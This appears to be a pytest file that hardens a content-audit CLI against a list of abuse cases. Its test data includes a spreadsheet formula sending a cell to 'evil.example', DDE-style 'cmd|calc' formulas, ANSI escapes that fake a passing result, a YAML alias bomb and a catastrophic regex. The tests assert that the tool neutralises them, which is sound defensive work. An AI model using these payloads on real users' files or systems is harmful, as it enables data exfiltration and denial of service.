"""Issue #18: every case of the attack list, with the new behaviour.

1 gate bypasses (a: unauditable pages, b: forged output folder, c: copies labelled template) -> `audit check` exits 1
and names the pages; 2 formula injection -> quoted cells; 3 user files and live spill folders kept; 4 slow pages ->
guarded and budgeted; 5 bounded config / glossary / patterns -> exit 2, one line; 6 mixed outputs -> locked, whole
folder swaps; 7 orphans -> workers exit with their parent; 8 terminal escapes -> escaped; 9 foreseeable errors ->
one line, exit 2; 10 `--out ""`, a 1 MB paragraph, deep HTML.
"""
from __future__ import annotations

import csv
import io
import json
import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

import audit
from audit.cli import main as cli_main
from audit.config import Settings

from .conftest import CORPUS, ROOT, SEED_IDS, generated_site

HARD = (CORPUS / f"{SEED_IDS[0]}.txt").read_text(encoding="utf-8")  # a real page, grade ~15
EASY = [
    "We are glad you came to see us. Our team will help you feel well again. We will look at your face and ask how "
    "you feel. Then we will talk about what you can do at home. Most people get better in a few weeks. Call us if "
    "you have pain or if your eye gets red. We are here to help you every day of the week.",
    "Your first visit takes about one hour. Bring a list of the pills you take. Come a bit early to fill in a short "
    "form. A nurse will take you to a quiet room. The doctor will check how your face moves when you smile and when "
    "you shut your eyes. You can ask as many things as you like. There is no wrong question here.",
    "Rest helps a lot. Sleep well and drink water through the day. Keep your eye wet with drops if it does not close "
    "all the way. Wear dark glasses when you go out in the sun or the wind. Go for short walks if you can. Tell a "
    "friend how you feel. Small steps each day add up, and most of us get back to our old selves.",
]
LENIENT = {"max_near_duplicate_pairs": 1000, "max_duplicate_share": 1.0, "max_pages_over_target": 0}


def _config(tmp: Path, **check) -> Path:
    path = tmp / "audit.toml"
    lines = ["[check]"] + [f"{k} = {json.dumps(v)}" for k, v in {**LENIENT, "max_grade": 12.0, **check}.items()]
    path.write_text("\n".join(lines) + "\n")
    return path


def _audit(*args: str, timeout: float = 600, **kw) -> subprocess.CompletedProcess:
    if args[0] == "check":  # (`audit check` records in ./audit-history.duckdb: not in the repository)
        args = (*args, "--no-history")
    return subprocess.run([sys.executable, "-m", "audit", *args], capture_output=True, text=True, timeout=timeout,
                          cwd=ROOT, **kw)


def _easy_site(folder: Path) -> Path:
    folder.mkdir(parents=True)
    for i, text in enumerate(EASY):
        (folder / f"easy{i}.txt").write_text(f"Easy page {i}\n\n{text}\n")
    return folder


# ------------------------------------------------------------------ 1. the gate cannot be slipped past

def test_1a_a_page_that_cannot_be_audited_fails_the_gate_and_is_named(tmp_path):
    """A NUL byte made the hard page `skipped` (binary) and it dropped out of every check: PASS. Now the
    `audited_pages` check fails and lists it; `max_skipped_pages` allows it explicitly. The one-paragraph page of
    over 1 M characters, `error` before (spaCy's limit), is audited now (case 10)."""
    site = _easy_site(tmp_path / "site")
    (site / "hard.txt").write_text(HARD[:2000] + "\0" + HARD[2000:])
    (site / "long.txt").write_text("A long page\n\n" + " ".join([EASY[0]] * 3450) + "\n")  # 1.05 M characters
    assert len((site / "long.txt").read_text()) > 1_000_000
    proc = _audit("check", str(site), "--config", str(_config(tmp_path)))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "FAIL  audited_pages: 1 of 5 page(s) could not be audited" in proc.stdout
    assert "page_id hard, status skipped, reason binary file (contains NUL bytes)" in proc.stdout
    assert "PASS  readability" in proc.stdout  # the audited pages are easy: only the unaudited page fails
    allowed = _audit("check", str(site), "--config", str(_config(tmp_path, max_skipped_pages=1)), "--json")
    data = json.loads(allowed.stdout)
    assert allowed.returncode == 0 and data["skipped"][0]["page_id"] == "hard"
    pages = audit.run(site).pages.set_index("page_id")
    assert pages.loc["long", "status"] == "ok" and pages.loc["long", "words"] > 200_000


def test_1b_file_names_no_longer_make_a_folder_audit_output(tmp_path):
    """`touch hard/summary.json hard/pages.csv` made every page of hard/ "audit output": skipped, PASS. Only the
    marker the tool writes, listing the very file, does that now; and never for a folder named explicitly."""
    site = _easy_site(tmp_path / "site")
    (site / "hard").mkdir()
    (site / "hard" / "hard.txt").write_text(HARD)
    (site / "hard" / "summary.json").write_text("{}")
    (site / "hard" / "pages.csv").write_text("page_id\n")
    proc = _audit("check", str(site), "--config", str(_config(tmp_path)))
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "FAIL  readability: 1 of 4 page(s) above grade 12" in proc.stdout and "page_id hard/hard" in proc.stdout
    # a forged marker (it does not list hard.txt with its contents) changes nothing
    (site / "hard" / ".audit-output.json").write_text(json.dumps(
        {"tool": "audit (content audit) output folder", "files": {"hard.txt": "0" * 64}}))
    assert audit.run(site).pages.set_index("page_id").loc["hard/hard", "status"] == "ok"
    # a real report folder inside the corpus is skipped (not counted by the gate) ...
    assert cli_main(["report", str(CORPUS), "--out", str(site / "reports"), "-q"]) == 0
    pages = audit.run(site).pages.set_index("page_id")
    assert pages.loc["reports/index", "status"] == "skipped"
    assert (pages.loc[[p for p in pages.index if p.startswith("reports/")], "status"] == "skipped").all()
    assert pages.loc["reports/index", "reason"].startswith("audit output (written by this tool")
    gate = _audit("check", str(site), "--config", str(_config(tmp_path, max_grade=30.0)), "--json")
    assert json.loads(gate.stdout)["checks"][-1]["status"] == "pass", gate.stdout
    # ... but audited when the folder is named explicitly
    named = audit.run(site / "reports").pages.set_index("page_id")
    assert named.loc["index", "status"] == "ok" and set(named.status) == {"ok"}


def _copied_site(folder: Path, pages: int, copies: int) -> Path:
    """A generated site of `pages` pages, `copies` of them one page with only its first heading changed (a heading
    of its own put before its first paragraph)."""
    generated_site(folder, pages=pages, seed=3)
    txt = sorted(folder.rglob("*.txt"))
    lines = txt[0].read_text().splitlines()
    first = next(i for i, line in enumerate(lines) if len(line.split()) >= 10 and line.rstrip().endswith("."))
    for i, path in enumerate(txt[:copies]):
        path.write_text("\n".join(lines[:first] + [f"Questions and answers, part {i + 1}", ""] + lines[first:]) + "\n")
    return folder


@pytest.mark.parametrize("pages,copies", [(10, 6), (30, 30)])
def test_1c_copies_of_one_page_are_duplicates_never_template(tmp_path, pages, copies):
    """Six copies of one page (first heading changed) in a ten-page site were 99 % "template": 0 near-duplicate
    pairs, not graded, PASS; the same for all-identical pages. Copies count once as template evidence now: their
    text stays body, the pairs are found and named, and the site frame is still template."""
    site = _copied_site(tmp_path / "site", pages, copies)
    n_copies = min(copies, len(list(site.rglob("*.txt"))))
    proc = _audit("check", str(site), "--config", str(_config(tmp_path, max_grade=30.0, max_near_duplicate_pairs=0)),
                  "--json")
    assert proc.returncode == 1, proc.stderr
    checks = {c["name"]: c for c in json.loads(proc.stdout)["checks"]}
    near = checks["near_duplicates"]
    assert near["status"] == "fail" and near["value"] == n_copies * (n_copies - 1) // 2
    assert min(item["similarity"] for item in near["items"]) >= 0.9
    a = audit.run(site)
    copied = a.pages[a.pages.page_id.isin({i["page_a"] for i in near["items"]})]
    assert (copied.template_share < 0.5).all() and copied.grade.notna().all()
    blocks = a.blocks
    assert set(blocks[blocks.text == "Skip to main content"].label) == {"boilerplate"}
    body = blocks[blocks.page_id.isin(copied.page_id) & (blocks.kind == "paragraph") & (blocks.words >= 40)]
    assert len(body) and (body.label == "body").all() and body.reason.str.contains("duplicated content").all()


# ------------------------------------------------------------------ 2. tables safe to open in a spreadsheet

def test_2_formula_cells_are_quoted_in_every_table(tmp_path):
    from audit.safe import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in ("=1+1", "+A1", "-cmd", "@SUM(A1)", "\tx", "\rx", "-3.5", "+4", "a=b", 7)] \
        == ["'=1+1", "'+A1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "-3.5", "+4", "a=b", 7]
    from audit.present._csv import formula_cells
    from audit.safe import FORMULA_START, spreadsheet_frame

    class Text(str):
        pass

    cells = ["=1+1", "", None, float("nan"), "a=b", "-3.5", "\tx", "é=", "@", Text("=x"), 7, "日本", "\rx", "+"]
    assert formula_cells(cells, "".join(FORMULA_START)) == \
        [i for i, v in enumerate(cells) if v.__class__ is str and v[:1] in FORMULA_START] == [0, 5, 6, 8, 12, 13]
    frame = pd.DataFrame({"t": pd.Series(["-x", "y", None], dtype="str"), "o": ["a", "=b", 3], "n": [-1, 2, 3]})
    safe = spreadsheet_frame(frame)
    assert safe["t"].tolist()[:2] == ["'-x", "y"] and safe["o"].tolist() == ["a", "'=b", 3] and safe["t"].dtype == "str"
    site = tmp_path / "site"
    site.mkdir()
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click here for your results")'
    (site / "=cmd|calc!A1.txt").write_text(f"{evil}\n\n{EASY[0]}\n\n@SUM(1+1)*cmd|' /C calc'!A0 is what we got.\n")
    (site / "plain.txt").write_text(f"Plain page\n\n{EASY[1]}\n")
    out = tmp_path / "out"
    assert cli_main(["run", str(site), "--out", str(out), "-q"]) == 0
    seen = 0
    for path in sorted(out.glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        for row in rows[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only numbers may start so
                seen += cell.startswith("'=") or cell.startswith("'@")
    assert seen >= 3
    pages = list(csv.DictReader(io.StringIO((out / "pages.csv").read_text(encoding="utf-8-sig"))))
    assert {p["page_id"] for p in pages} == {"'=cmd|calc!A1", "plain"}
    assert all(float(p["words"]) > 0 for p in pages)  # numbers stay numbers
    blocks = (out / "blocks.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in blocks and "\n=HYPERLINK" not in blocks and ",=HYPERLINK" not in blocks


# ------------------------------------------------------------------ 3. the tool deletes only what it created

def test_3_user_files_in_out_are_never_deleted(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    mine = {".backup.2024.old.tmp": "backup", ".notes.33333.draft.tmp": "draft", "notes.txt": "my notes"}
    for name, text in mine.items():
        (out / name).write_text(text)
    for _ in range(2):
        assert cli_main(["run", str(CORPUS), "--out", str(out), "-q"]) == 0
    assert {n: (out / n).read_text() for n in mine} == mine
    assert (out / "pages.csv").is_file() and (out / ".audit-output.json").is_file()
    # no staging, lock or old folder left; beside --out only the run history (`audit-history.duckdb`, by design)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit-history.duckdb", "out"]


def test_3_a_live_spill_folder_of_another_pid_namespace_is_kept(tmp_path):
    """A spill folder named with a process id that is not alive here (another container's run, sharing TMPDIR) but
    whose run holds its marker's lock: a streaming run keeps it. Liveness is the lock, never the number."""
    import tempfile

    from audit.engine import store as stream

    holder = subprocess.Popen([sys.executable, "-c", "import sys, tempfile, pathlib; from audit.engine.publish import "
                               f"RunMark; d = tempfile.mkdtemp(prefix='{stream.SPILL_PREFIX}999999-'); "
                               "RunMark(pathlib.Path(d)); print(d, flush=True); sys.stdin.read()"],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        folder = Path(holder.stdout.readline().strip())
        (folder / "000000.blocks.npz").write_bytes(b"in use")
        assert folder.parent == Path(tempfile.gettempdir()) and "999999" in folder.name
        audit.run(CORPUS, Settings().replace(run={"stream_min_pages": 1}))
        assert (folder / "000000.blocks.npz").read_bytes() == b"in use"
    finally:
        holder.communicate("", timeout=30)
    audit.run(CORPUS, Settings().replace(run={"stream_min_pages": 1}))  # its run ended: now it is stale
    assert not folder.exists()


# ------------------------------------------------------------------ 4. bounded work per page

def test_4_punctuation_and_emoji_runs_are_defused_and_the_budget_skips_a_slow_page(tmp_path):
    """15-30 KB of `"`, emoji or `=` cost spaCy 20-70 s each (quadratic). Defused before spaCy, they are audited
    well within a 60 s budget; the sentence text keeps the original characters. A budget a page cannot meet skips
    it with the reason."""
    from audit.engine.guard import for_spacy

    text = "Intro words here. " + '"' * 30_000 + " and 😀😀😀 " + "😀" * 30_000
    safe = for_spacy(text)
    assert len(safe) == len(text) and max(len(t) for t in safe.split()) <= 32
    site = tmp_path / "site"
    site.mkdir()
    for name, run in (("quotes", '"' * 30_000), ("emoji", "😀" * 30_000), ("equals", "=" * 10_000)):
        (site / f"{name}.txt").write_text(f"Heading\n\n{EASY[0]} {run} The end of it.\n")
    a = audit.run(site, Settings().replace(run={"max_page_seconds": 60.0}))
    assert a.pages.status.tolist() == ["ok", "ok", "ok"], a.pages[["page_id", "reason"]]
    quotes = a.sentences[a.sentences.page_id == "quotes"].text
    assert quotes.str.count('"').sum() == 30_000  # sentence texts are cut from the original text
    tight = audit.run(site, Settings().replace(run={"max_page_seconds": 0.001}))
    assert tight.pages.status.tolist() == ["skipped"] * 3
    assert tight.pages.reason.str.match(r"over the time budget: [\d.]+ s > 0.001 s \(\[run\] max_page_seconds\) "
                                        r"at (load|segment|analyse)").all()
    proc = _audit("check", str(site), "--config", str(_config(tmp_path, max_pages_over_target=3)), "-q")
    assert proc.returncode == 0
    (tmp_path / "audit.toml").write_text(
        (tmp_path / "audit.toml").read_text() + "[run]\nmax_page_seconds = 0.001\n")
    over = _audit("check", str(site), "--config", str(tmp_path / "audit.toml"), "-q")
    assert over.returncode == 2  # no page audited: never a pass
    assert "no page could be audited (emoji: over the time budget" in over.stderr


# ------------------------------------------------------------------ 5. bounded inputs: one line, exit 2

def _one_line_exit_2(proc: subprocess.CompletedProcess, *needles: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    for needle in needles:
        assert needle in proc.stderr, proc.stderr


ALIAS_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{n}: &{n} [{','.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi")) + "concepts: *i\n"


def test_5_glossary_and_config_are_bounded(tmp_path):
    site = _easy_site(tmp_path / "site")
    bomb = tmp_path / "bomb.yml"
    bomb.write_text(ALIAS_BOMB)
    assert len(ALIAS_BOMB) < 500
    _one_line_exit_2(_audit("check", str(site), "--glossary", str(bomb), timeout=60), "aliases (*name) are not allowed")
    _one_line_exit_2(_audit("check", str(site), "--glossary", "/dev/zero", timeout=60),
                     "/dev/zero is a device or special file, not a regular file")
    fifo = tmp_path / "fifo.yml"
    os.mkfifo(fifo)
    _one_line_exit_2(_audit("check", str(site), "--glossary", str(fifo), timeout=60), "is a named pipe (FIFO)")
    _one_line_exit_2(_audit("check", str(site), "--config", str(fifo), timeout=60), "is a named pipe (FIFO)")
    big = tmp_path / "big.toml"
    big.write_text("# " + "x" * 1_100_000 + "\n")
    _one_line_exit_2(_audit("check", str(site), "--config", str(big), timeout=60), "too large")
    for text, needle in (
            ("[boilerplate]\nextra_patterns = { bad = '^(a+)+$' }\n", "pattern 'bad' takes over"),
            ("[boilerplate]\nextra_patterns = { broken = '(unclosed' }\n",
             "[boilerplate] extra_patterns: 'broken': invalid regular expression"),
            ("[duplication]\nminhash_permutations = 100000000\n", "minhash_permutations: must be <= 1024"),
            ("[run]\nworkers = 1000\n", "[run] workers: must be <= 64, got 1000"),
            ("[terms]\ndiscovery_top = 100000000\n", "discovery_top: must be <= 1e+06")):
        (tmp_path / "bad.toml").write_text(text)
        _one_line_exit_2(_audit("check", str(site), "--config", str(tmp_path / "bad.toml"), timeout=60), needle)
    _one_line_exit_2(_audit("check", str(site), "--workers", "100000", timeout=60), "must be <= 64")


def test_5_the_glossary_is_parsed_once_per_run(tmp_path, monkeypatch):
    from audit.terms import glossary_file

    site = _easy_site(tmp_path / "site")
    custom = tmp_path / "glossary.yml"
    custom.write_text("concepts:\n  - name: facial weakness\n    category: symptom\n    variants: [weak face]\n")
    calls = []
    real = glossary_file.parse_glossary
    monkeypatch.setattr(glossary_file, "parse_glossary", lambda *a, **k: calls.append(1) or real(*a, **k))
    assert cli_main(["check", str(site), "--glossary", str(custom), "-q", "--no-history",
                     "--config", str(_config(tmp_path, max_grade=30.0))]) == 0
    assert len(calls) == 1


# ------------------------------------------------------------------ 6. outputs of one run, whole

def test_6_a_second_run_into_the_same_out_exits_2(tmp_path):
    from audit.engine.publish import output_lock

    out = tmp_path / "out"
    with output_lock(out):
        _one_line_exit_2(_audit("run", str(CORPUS), "--out", str(out)), f"--out {out} is being written by another "
                         "audit run")
    assert not out.exists()


def test_6_an_empty_corpus_replaces_an_old_report_whole(tmp_path):
    out, empty = tmp_path / "out", tmp_path / "empty"
    empty.mkdir()
    assert cli_main(["run", str(CORPUS), "--out", str(out), "--report", "-q"]) == 0
    assert (out / "index.html").is_file()
    assert cli_main(["run", str(empty), "--out", str(out), "-q"]) == 0
    assert not (out / "index.html").exists()  # never an old report beside the new, header-only tables
    assert (out / "pages.csv").read_text().count("\n") == 1


def _fsize_limit(limit: int):
    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def test_6_9_a_full_disk_leaves_the_previous_output_whole(tmp_path):
    """A write that fails (file size limit: EFBIG, as a full disk gives ENOSPC) ends in one line and exit 2 after
    the audit; the folder still holds the previous run's files, unchanged, and no staging folder is left."""
    out = tmp_path / "out"
    assert cli_main(["run", str(CORPUS), "--out", str(out), "-q"]) == 0

    def files() -> dict[str, bytes]:  # (with the Parquet store's files, store/<table>/part-*.parquet)
        return {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    before = files()
    assert "store/pages/part-000000.parquet" in before
    proc = subprocess.run([sys.executable, "-m", "audit", "run", str(CORPUS), "--out", str(out), "--report", "-q"],
                          capture_output=True, text=True, timeout=600, cwd=ROOT, preexec_fn=_fsize_limit(20_000))
    _one_line_exit_2(proc, f"could not write --out {out}: File too large", "previous contents of the folder are "
                     "unchanged")
    assert files() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit-history.duckdb", "out"]  # the first run's history


# ------------------------------------------------------------------ 7. workers exit when their parent dies

def _children(pid: int) -> set[int]:
    from .conftest import _proc_table

    return {p for p, info in _proc_table().items() if info["ppid"] == pid}


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_7_workers_exit_when_the_main_process_is_killed(tmp_path, sig):
    site = generated_site(tmp_path / "site", pages=120, seed=5)
    proc = subprocess.Popen([sys.executable, "-m", "audit", "run", str(site), "--out", str(tmp_path / "out"),
                             "--workers", "2", "-q"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT)
    workers: set[int] = set()
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and len(workers) < 2 and proc.poll() is None:
        workers = _children(proc.pid)
        time.sleep(0.01)
    assert len(workers) >= 2, "the run never started its workers"
    os.kill(proc.pid, sig)  # the main process only, as a CI runner or the OOM killer would
    proc.wait(timeout=60)
    from .conftest import _proc_table

    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and workers & set(_proc_table()):
        time.sleep(0.1)
    assert not workers & set(_proc_table()), "orphaned workers still alive"


def test_7_a_worker_whose_parent_died_before_its_initializer_exits(tmp_path):
    """A worker takes its parent's id from the process that forks it (`initargs`), not from `os.getppid()` once it
    runs: a main process killed between the fork and the worker's initializer (the test above, now and then) left
    the worker re-parented to init, taking init for its parent, waiting for work forever. Here the child runs the
    initializer with a parent id that is not its parent's (its parent already gone): it must exit on its own."""
    import multiprocessing

    from audit.engine.executors import exit_with_parent

    def child(gone: int) -> None:
        try:
            exit_with_parent(gone)
        except BaseException:  # noqa: BLE001 - not the watchdog's exit: told apart by the code
            os._exit(3)
        time.sleep(30)  # (the watchdog ends the process long before, with code 1)

    gone = os.getpid() + 4_000_000  # (above any process id: a parent that no longer exists)
    p = multiprocessing.get_context("fork").Process(target=child, args=(gone,))
    p.start()
    p.join(timeout=10)
    alive = p.is_alive()
    if alive:
        p.kill()
        p.join()
    assert not alive and p.exitcode == 1


# ------------------------------------------------------------------ 8. terminal escapes

def test_8_control_characters_in_file_names_are_escaped(tmp_path):
    site = _easy_site(tmp_path / "site")
    evil = "\x1b[2J\x1b[31mFAKE: all checks passed"
    (site / f"{evil}.txt").write_bytes(b"\x00\x01binary")
    (site / f"line\nbreak {evil}.txt").write_text(HARD)
    run = _audit("run", str(site), "--out", str(tmp_path / "out"))
    check = _audit("check", str(site), "--config", str(_config(tmp_path)))
    for proc in (run, check):
        assert "\x1b" not in proc.stdout + proc.stderr
        assert "\\x1b[2J\\x1b[31mFAKE: all checks passed" in proc.stdout + proc.stderr
    assert "line\\nbreak" in check.stdout and "\nbreak" not in check.stdout
    assert check.returncode == 1


# ------------------------------------------------------------------ 9-10. foreseeable errors: one line, exit 2

def test_9_foreseeable_errors_end_in_one_line_and_exit_2(tmp_path):
    site = _easy_site(tmp_path / "site")
    _one_line_exit_2(_audit("run", str(site), "--out", "/sys/fs/audit-out"), "--out /sys/fs/audit-out: cannot write "
                     "in /sys/fs")
    long_name = "x" * 300
    _one_line_exit_2(_audit("run", str(tmp_path / long_name), "--out", str(tmp_path / "o")),
                     "no such file or folder")
    _one_line_exit_2(_audit("run", str(site), "--out", str(tmp_path / long_name)), "File name too long")
    bad = tmp_path / "latin1.toml"
    bad.write_bytes("# caf\xe9\n[check]\nmax_grade = 9\n".encode("latin-1"))
    _one_line_exit_2(_audit("check", str(site), "--config", str(bad)), "latin1.toml: not UTF-8 text")
    (tmp_path / "pyproject.toml").write_text("[tool]\naudit = 5\n")
    _one_line_exit_2(_audit("check", str(site), "--config", str(tmp_path / "pyproject.toml")),
                     "[tool.audit] must be a table")
    (tmp_path / "pyproject.toml").write_text("tool = 5\n")
    _one_line_exit_2(_audit("check", str(site), "--config", str(tmp_path / "pyproject.toml")),
                     "[tool.audit] must be a table")
    _one_line_exit_2(_audit("run", str(site), "--out", ""), '--out "" names no folder')


def test_9_no_usable_temporary_folder(tmp_path, monkeypatch, capsys):
    import tempfile

    site = _easy_site(tmp_path / "site")
    (tmp_path / "audit.toml").write_text("[run]\nstream_min_pages = 1\n")  # streaming: needs a spill folder
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no-such-folder"))
    code = cli_main(["run", str(site), "--out", str(tmp_path / "out"), "--config", str(tmp_path / "audit.toml"), "-q"])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "no-such-folder" in err


def test_10_deeply_nested_html_is_audited(tmp_path):
    site = tmp_path / "site"
    site.mkdir()
    body = "".join(f"<p>{t}</p>" for t in EASY)
    (site / "deep.html").write_text("<html><body>" + "<div>" * 300 + body + "</div>" * 300 + "</body></html>")
    page = audit.run(site).pages.iloc[0]
    assert page.status == "ok" and page.words > 150, page.reason
